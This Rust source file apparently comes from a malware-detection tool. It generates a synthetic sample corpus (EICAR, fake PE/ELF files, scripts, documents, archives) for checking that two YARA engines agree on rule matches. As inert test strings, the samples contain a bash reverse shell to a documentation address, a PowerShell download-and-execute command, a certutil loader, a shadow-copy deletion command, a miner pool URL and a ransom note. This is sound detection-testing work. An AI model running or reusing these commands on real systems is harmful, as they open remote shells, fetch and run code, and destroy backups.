//! The harmless sample corpus as files, and boreal's rule matches on them:
//! the two halves of `.ci/yara_crosscheck.py`, which asks the C engine
//! (yara-python) the same question and compares the answers.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use anyhow::Context as _;
use lookout_analysis::{Limits, RuleSource, Rules, analyze, samples};

/// A C2 address that `config.bin` hides with a one-byte XOR, the way
/// droppers keep their configuration from `strings`.
pub const XOR_URL: &str = "http://c2.example.org/gate.php";
const XOR_KEY: u8 = 0x5A;

/// Every sample, as `(file name, bytes)`: executables, documents,
/// archives and scripts, some with the traits the rules look for and some
/// without, so that both engines have matches and non-matches to agree on.
pub fn corpus() -> Vec<(&'static str, Vec<u8>)> {
    let pe_downloader = samples::pe(
        &[
            (
                "KERNEL32.dll",
                &["ExitProcess", "CreateProcessA", "WinExec"],
            ),
            ("urlmon.dll", &["URLDownloadToFileA"]),
            ("SHELL32.dll", &["ShellExecuteA"]),
        ],
        &[
            "http://downloads.example.com/update.exe",
            "Global\\LookoutSampleMutex",
            &wide_str("vssadmin delete shadows /all /quiet"),
            &wide_str("http://downloads.example.com/update.exe"),
            // Base64 kept as a UTF-16 string, as .NET and PowerShell
            // droppers keep their commands.
            &wide_str(&base64(b"cmd.exe /c whoami /all")),
        ],
    );
    let pe_plain = samples::pe(
        &[
            (
                "KERNEL32.dll",
                &["ExitProcess", "GetStdHandle", "WriteFile"],
            ),
            ("USER32.dll", &["MessageBoxA"]),
        ],
        &["Hello from a harmless test program"],
    );
    let elf_shell = samples::elf(&[
        "/bin/sh",
        "/dev/tcp/192.0.2.10/4444",
        "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1",
        "exec 5<>/dev/tcp/192.0.2.10/4444",
    ]);
    let elf_miner = samples::elf(&[
        "xmrig",
        "stratum+tcp://pool.example.net:3333",
        "--donate-level=1",
    ]);
    let elf_plain = samples::elf(&["usage: hello [--name NAME]", "hello, %s\n"]);
    let dropper = format!(
        "# Scheduled task found on the bridge PC\r\npowershell.exe -NoProfile -WindowStyle Hidden -enc {}\r\n",
        base64(&utf16le(
            "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')"
        ))
    );
    let loader = format!(
        "@echo off\r\ncertutil.exe -urlcache -split -f http://192.0.2.10/chart.exe %TEMP%\\chart.exe\r\n\
         echo {} > %TEMP%\\c.txt\r\nstart %TEMP%\\chart.exe\r\n",
        base64(b"cmd.exe /c whoami /all")
    );

    let mut files: Vec<(&'static str, Vec<u8>)> = vec![
        ("eicar.com", samples::EICAR.to_vec()),
        ("eicar_in_text.txt", {
            let mut text = b"Test file pasted in a mail:\n".to_vec();
            text.extend_from_slice(samples::EICAR);
            text.push(b'\n');
            text
        }),
        ("pe_downloader.exe", pe_downloader.clone()),
        ("pe_plain.exe", pe_plain),
        ("pe_packed.exe", samples::pe_packed()),
        ("elf_reverse_shell", elf_shell.clone()),
        ("elf_miner", elf_miner),
        ("elf_plain", elf_plain),
        ("note.txt", NOTE.as_bytes().to_vec()),
        ("ransom_note.txt", RANSOM_NOTE.as_bytes().to_vec()),
        ("ransom_note_utf16.txt", {
            let mut text = vec![0xFF, 0xFE];
            text.extend(utf16le(RANSOM_NOTE));
            text
        }),
        ("dropper.ps1", dropper.into_bytes()),
        ("loader.bat", loader.into_bytes()),
        ("config.bin", xor_config()),
        ("word_macro.doc", samples::word_doc_with_macro()),
        ("macro.docm", samples::docm_with_macro()),
        (
            "remote_template.docx",
            samples::docx_with_remote_template("http://templates.example.com/normal.dotm"),
        ),
        ("javascript.pdf", samples::pdf_with_javascript()),
        (
            "launch_embedded.pdf",
            samples::pdf_with_launch_and_embedded(samples::EICAR),
        ),
        ("eicar.zip", samples::zip(&[("eicar.com", samples::EICAR)])),
        (
            "eicar_infected.zip",
            samples::zip_infected(&[("eicar.com", samples::EICAR)]),
        ),
        ("nested.zip", samples::nested_zip(3, samples::EICAR)),
        ("reverse_shell.gz", samples::gzip(&elf_shell)),
        (
            "tools.tar",
            samples::tar(&[
                ("bin/update.exe", &pe_downloader),
                ("bin/shell", &elf_shell),
                ("README.txt", NOTE.as_bytes()),
            ]),
        ),
    ];
    files.sort_by(|a, b| a.0.cmp(b.0));
    files
}

const NOTE: &str = "Meeting notes, 27 November\n\
    - Chart updates for the ECDIS arrive on Thursday.\n\
    - The crew Wi-Fi password changes monthly; ask the master.\n\
    - Next port call: Rotterdam, ETA 06:00.\n";

const RANSOM_NOTE: &str = "YOUR FILES HAVE BEEN ENCRYPTED\n\
    All documents, charts and databases on this network are encrypted.\n\
    To decrypt them, pay 0.5 BTC (bitcoin) to the address below.\n\
    Only we can decrypt your files. Contact us at http://exampleexampleexample.onion/\n\
    Do not try to decrypt the files yourself.\n";

/// `text` as UTF-16LE without a byte-order mark (ASCII only).
fn utf16le(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// `text` (ASCII) as UTF-16LE in a `&str`, for builders that take strings:
/// a NUL after each character is still valid UTF-8.
fn wide_str(text: &str) -> String {
    text.chars().flat_map(|c| [c, '\0']).collect()
}

fn base64(data: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Noise with [`XOR_URL`] XORed with [`XOR_KEY`] inside, at offset 1000.
fn xor_config() -> Vec<u8> {
    let mut state = 0x9E37_79B9_7F4A_7C15u64;
    let mut data: Vec<u8> = (0..2048)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 32) as u8
        })
        .collect();
    for (i, b) in XOR_URL.bytes().enumerate() {
        data[1000 + i] = b ^ XOR_KEY;
    }
    data
}

/// `lookout-bench write-samples --out DIR`: writes [`corpus`] and lists
/// each file with its size (and a PE's imphash as lookout-analysis computes
/// it, which `tests/crosscheck/extra.yar` has the C engine confirm).
pub fn write(out: &Path) -> anyhow::Result<()> {
    std::fs::create_dir_all(out).with_context(|| format!("creating {}", out.display()))?;
    for (name, data) in corpus() {
        let path = out.join(name);
        std::fs::write(&path, &data).with_context(|| format!("writing {}", path.display()))?;
        let imphash = analyze(&data, None, &Limits::default())
            .executable
            .and_then(|exe| exe.imphash)
            .map(|hash| format!(" imphash {hash}"))
            .unwrap_or_default();
        println!("{name}: {} bytes{imphash}", data.len());
    }
    Ok(())
}

/// `lookout-bench rule-matches --rules DIR... --files DIR`: prints
/// `{"file": ["namespace:rule", ...]}` (both sorted) for every file of the
/// directory, with the `.yar` files of the rule directories compiled
/// together, each its own namespace.
pub fn rule_matches(rule_dirs: &[PathBuf], files: &Path) -> anyhow::Result<()> {
    let mut sources = Vec::new();
    for dir in rule_dirs {
        sources.extend(rule_files(dir)?);
    }
    anyhow::ensure!(!sources.is_empty(), "no .yar files in the rule directories");
    let rules = Rules::compile(&sources)?;
    let mut result: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for path in sorted_entries(files)? {
        if !path.is_file() {
            continue;
        }
        let data = std::fs::read(&path).with_context(|| format!("reading {}", path.display()))?;
        let mut names = rules.matching(&data);
        names.sort();
        let name = path
            .file_name()
            .context("a file without a name")?
            .to_string_lossy()
            .into_owned();
        result.insert(name, names);
    }
    println!("{}", serde_json::to_string_pretty(&result)?);
    Ok(())
}

/// The `.yar` files of `dir`, sorted by name.
pub fn rule_files(dir: &Path) -> anyhow::Result<Vec<RuleSource>> {
    let mut sources = Vec::new();
    for path in sorted_entries(dir)? {
        if path.extension().is_some_and(|e| e == "yar") {
            let text = std::fs::read_to_string(&path)
                .with_context(|| format!("reading {}", path.display()))?;
            let name = path
                .file_name()
                .context("a file without a name")?
                .to_string_lossy()
                .into_owned();
            sources.push(RuleSource::new(name, text));
        }
    }
    Ok(sources)
}

pub fn sorted_entries(dir: &Path) -> anyhow::Result<Vec<PathBuf>> {
    let mut paths = Vec::new();
    for entry in std::fs::read_dir(dir).with_context(|| format!("reading {}", dir.display()))? {
        paths.push(entry?.path());
    }
    paths.sort();
    Ok(paths)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_the_standard_alphabet_and_padding() {
        assert_eq!(base64(b""), "");
        assert_eq!(base64(b"f"), "Zg==");
        assert_eq!(base64(b"fo"), "Zm8=");
        assert_eq!(base64(b"foo"), "Zm9v");
        assert_eq!(base64(b"foobar"), "Zm9vYmFy");
    }

    #[test]
    fn sample_names_are_unique() {
        let corpus = corpus();
        let mut names: Vec<_> = corpus.iter().map(|(name, _)| *name).collect();
        names.dedup();
        assert_eq!(names.len(), corpus.len());
    }
}
